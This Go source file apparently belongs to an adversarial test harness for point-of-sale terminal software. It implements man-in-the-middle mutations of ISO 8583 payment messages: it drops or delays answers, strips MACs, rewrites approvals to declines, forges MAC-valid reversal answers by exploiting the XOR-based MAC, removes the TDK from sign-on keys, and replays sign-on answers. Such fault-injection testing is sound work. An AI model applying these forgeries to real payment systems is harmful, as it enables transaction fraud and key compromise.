package hostile

import (
	"encoding/hex"
	"fmt"
	"time"

	"github.com/posagent/posagent/agent/acquirer"
)

// Mutation is what the attacker does to one exchange. Its string is what
// the campaign prints and counts.
type Mutation string

// The mutations. Each works on the host's real answer (or, for the forged
// 25s, instead of sending the request on), byte by byte.
const (
	// Pass delivers the answer as the host sent it.
	Pass Mutation = "pass"
	// DropHold forwards the request, swallows the answer and keeps the
	// terminal's connection open until the terminal gives up.
	DropHold Mutation = "drop-hold"
	// DropClose forwards the request, swallows the answer and closes.
	DropClose Mutation = "drop-close"
	// Delay delivers the answer only after Options.Late, past the
	// terminal's timeout.
	Delay Mutation = "delay"
	// Duplicate delivers the answer twice.
	Duplicate Mutation = "duplicate"
	// StripMAC removes field 64 and clears bit 64 of the bitmap.
	StripMAC Mutation = "strip-mac"
	// ForgeDecline rewrites an approval's field 39 to a decline (05, 51,
	// 61) and, when the answer is MACed, flips the same bits at the same
	// offsets mod 8 inside fields 37/38 so that field 64 still verifies.
	ForgeDecline Mutation = "forge-decline"
	// Defect rewrites an approval to an approved-with-defect code (A2, A4,
	// A5, A6, 10, 11), compensated the same way.
	Defect Mutation = "defect"
	// Forge25MAC does not send the reversal on: it answers 25 ("original
	// not found") itself, made from the host's genuine approval of the
	// original (MTI 0210 → 0410, 39 00 → 25, compensated in 37/38), so its
	// field 64 verifies under the session's MAK.
	Forge25MAC Mutation = "forge-25-mac"
	// Forge25Plain does not send the reversal on either and answers 25
	// without a MAC, as a host that could not check the request would.
	Forge25Plain Mutation = "forge-25-plain"
	// StripTDK cuts the sign-on answer's field 62 from 60 bytes (PIK, MAK,
	// TDK with check values) to 40 (no TDK): 0810 carries no MAC.
	StripTDK Mutation = "strip-tdk"
	// Replay answers a sign-on with an earlier approved 0810, verbatim.
	Replay Mutation = "replay-0810"
	// ReplayMatched answers a sign-on with an earlier 0810 whose STAN and
	// TID are rewritten to the request's.
	ReplayMatched Mutation = "replay-0810-matched"
)

// Mutations lists every mutation, Pass first.
var Mutations = []Mutation{Pass, DropHold, DropClose, Delay, Duplicate, StripMAC, ForgeDecline, Defect,
	Forge25MAC, Forge25Plain, StripTDK, Replay, ReplayMatched}

// Declines and DefectCodes are the response codes ForgeDecline and Defect
// write into an approval.
var (
	Declines    = []string{"05", "51", "61"}
	DefectCodes = []string{"A2", "A4", "A5", "A6", "10", "11"}
)

// Message kinds, as the proxy classifies requests.
const (
	KindSignOn   = "sign-on"
	KindEcho     = "echo"
	KindSignOff  = "sign-off"
	KindSale     = "sale"
	KindVoid     = "void"
	KindReversal = "reversal"
	KindOther    = "other" // anything else, or a request that does not parse
)

// candidates is what can be done to each kind of exchange, Pass first.
var candidates = map[string][]Mutation{
	KindSignOn:   {Pass, DropHold, DropClose, Delay, Duplicate, ForgeDecline, StripTDK, Replay, ReplayMatched},
	KindEcho:     {Pass, DropHold, DropClose, Delay, Duplicate, ForgeDecline},
	KindSale:     {Pass, DropHold, DropClose, Delay, Duplicate, StripMAC, ForgeDecline, Defect},
	KindVoid:     {Pass, DropHold, DropClose, Delay, Duplicate, StripMAC, ForgeDecline, Defect},
	KindReversal: {Pass, DropHold, DropClose, Delay, Duplicate, StripMAC, Forge25MAC, Forge25Plain},
	KindSignOff:  {Pass},
	KindOther:    {Pass},
}

// Candidates returns the mutations the proxy may apply to an exchange of
// kind, Pass first.
func Candidates(kind string) []Mutation {
	c, ok := candidates[kind]
	if !ok {
		c = candidates[KindOther]
	}
	return append([]Mutation(nil), c...)
}

// classify names a request's kind from its MTI, processing code and 60.3.
func classify(l *layout) string {
	if l == nil {
		return KindOther
	}
	f60, _ := acquirer.ParseField60(l.get(60))
	switch mti := l.mti(); {
	case mti == "0800":
		return KindSignOn
	case mti == "0820" && f60.Code == "002":
		return KindSignOff
	case mti == "0820":
		return KindEcho
	case mti == "0200" && l.get(3) == "000000":
		return KindSale
	case mti == "0200" && l.get(3) == "200000":
		return KindVoid
	case mti == "0400":
		return KindReversal
	}
	return KindOther
}

func clone(b []byte) []byte { return append([]byte(nil), b...) }

// macCover is how much of l.msg the MAC covers: all but field 64.
func (l *layout) macCover() int {
	if l.macked() {
		return len(l.msg) - macLen
	}
	return len(l.msg)
}

// freeSpans are the fields whose characters a forgery may change to keep
// the MAC: the RRN (37) and the authorisation code (38), which nothing
// before the void reads back.
func (l *layout) freeSpans() []span {
	var out []span
	for _, id := range []int{37, 38} {
		if sp, ok := l.spans[id]; ok {
			out = append(out, sp)
		}
	}
	return out
}

// StripMACField returns msg (from the MTI on) without field 64 and with
// bit 64 cleared.
func StripMACField(msg []byte) ([]byte, error) {
	l, err := parse(msg)
	if err != nil {
		return nil, err
	}
	if !l.macked() {
		return nil, errNotApplicable
	}
	out := clone(msg[:len(msg)-macLen])
	clearBit(out, macField)
	return out, nil
}

// RewriteRC returns the approval msg with field 39 set to rc. When msg is
// MACed, the bits flipped in 39 are flipped back at the same offsets mod 8
// inside fields 37/38 (staying digits or uppercase letters), so field 64
// still verifies under the MAK nobody here knows.
func RewriteRC(msg []byte, rc string) ([]byte, error) {
	if len(rc) != 2 {
		return nil, fmt.Errorf("hostile: response code %q is not 2 characters", rc)
	}
	l, err := parse(msg)
	if err != nil {
		return nil, err
	}
	sp, ok := l.spans[39]
	if !ok || l.get(39) != "00" {
		return nil, errNotApplicable
	}
	out := clone(msg)
	cover := l.macCover()
	want := xor8(out[:cover])
	copy(out[sp.data:sp.data+2], rc)
	if l.macked() {
		avoid := map[int]bool{sp.data: true, sp.data + 1: true}
		if err := compensate(out, cover, want, l.freeSpans(), avoid); err != nil {
			return nil, err
		}
	}
	return out, nil
}

// Forge25FromApproval turns the host's MACed approval of a sale or void
// (0210, 39 = 00) into a MACed answer 25 to the reversal of the same
// message: MTI 0410, 39 = 25, compensated in 37/38. STAN, TID and amount
// are the original's, which the reversal repeats.
func Forge25FromApproval(approval []byte) ([]byte, error) {
	l, err := parse(approval)
	if err != nil {
		return nil, err
	}
	sp, ok := l.spans[39]
	if !ok || !l.macked() || l.mti() != "0210" || l.get(39) != "00" {
		return nil, errNotApplicable
	}
	out := clone(approval)
	cover := l.macCover()
	want := xor8(out[:cover])
	out[0] = 0x04 // MTI 0210 → 0410 (BCD)
	copy(out[sp.data:sp.data+2], "25")
	avoid := map[int]bool{0: true, sp.data: true, sp.data + 1: true}
	if err := compensate(out, cover, want, l.freeSpans(), avoid); err != nil {
		return nil, err
	}
	return out, nil
}

// Forge25Unmaced builds an unMACed 0410 answering 25 to the reversal req
// (from the MTI on), echoing the fields a host echoes.
func Forge25Unmaced(req []byte, now time.Time) ([]byte, error) {
	l, err := parse(req)
	if err != nil {
		return nil, err
	}
	if l.mti() != "0400" {
		return nil, errNotApplicable
	}
	m := acquirer.NewMessage("0410")
	for _, id := range []int{3, 4, 11, 25, 41, 42, 49, 60} {
		if v := l.get(id); v != "" {
			if err := acquirer.Set(m, id, v); err != nil {
				return nil, err
			}
		}
	}
	now = now.In(time.FixedZone("CST", 8*3600))
	if err := acquirer.Set(m, 12, now.Format("150405")); err != nil {
		return nil, err
	}
	if err := acquirer.Set(m, 13, now.Format("0102")); err != nil {
		return nil, err
	}
	if err := acquirer.Set(m, 39, "25"); err != nil {
		return nil, err
	}
	return acquirer.Pack(m)
}

// StripTDKField cuts an approved 0810's field 62 from 60 bytes to 40: the
// PIK and MAK with their check values stay, the TDK goes. The 0810 has no
// MAC, so nothing tells the terminal.
func StripTDKField(msg []byte) ([]byte, error) {
	l, err := parse(msg)
	if err != nil {
		return nil, err
	}
	sp, ok := l.spans[62]
	if !ok || l.macked() || l.get(39) != "00" || sp.end-sp.data != 60 || sp.data-sp.start != 2 {
		return nil, errNotApplicable
	}
	out := make([]byte, 0, len(msg)-20)
	out = append(out, msg[:sp.start]...)
	out = append(out, 0x00, 0x40) // LLL (BCD) = 040
	out = append(out, msg[sp.data:sp.data+40]...)
	return append(out, msg[sp.end:]...), nil
}

// RewriteSTANTID sets an unMACed answer's STAN (11) and TID (41) in place,
// so that an old 0810 matches a new 0800.
func RewriteSTANTID(msg []byte, stan, tid string) ([]byte, error) {
	l, err := parse(msg)
	if err != nil {
		return nil, err
	}
	s11, ok11 := l.spans[11]
	s41, ok41 := l.spans[41]
	if !ok11 || !ok41 || l.macked() || len(stan) != 6 || len(tid) != s41.end-s41.data {
		return nil, errNotApplicable
	}
	b, err := hex.DecodeString(stan)
	if err != nil || len(b) != s11.end-s11.data || !digits(stan) {
		return nil, errNotApplicable
	}
	out := clone(msg)
	copy(out[s11.data:s11.end], b)
	copy(out[s41.data:s41.end], tid)
	return out, nil
}

func digits(s string) bool {
	for i := 0; i < len(s); i++ {
		if s[i] < '0' || s[i] > '9' {
			return false
		}
	}
	return true
}
